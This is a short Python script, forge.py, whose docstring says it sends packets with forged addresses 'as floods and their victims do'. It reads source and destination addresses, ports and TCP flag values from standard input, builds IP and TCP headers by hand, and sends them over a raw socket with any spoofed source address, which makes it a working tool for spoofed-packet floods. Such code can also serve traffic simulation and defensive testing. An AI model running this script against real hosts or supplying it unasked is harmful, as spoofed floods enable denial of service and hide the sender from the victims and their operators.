"""Sends packets with forged addresses, as floods and their victims do.

usage: forge.py < packets

Each line has a source, its port, a destination, its port, and the flags of TCP as a number. The kernel finds the way, so
the sources may be any.
"""

import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for line in sys.stdin:
    source, source_port, destination, port, flags = line.split()
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    tcp = struct.pack("!HHIIBBHHH", int(source_port), int(port), 1000, 1, 0x50, int(flags), 64240, 0, 0)
    total = checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + ends
    out.sendto(header + tcp, (destination, 0))
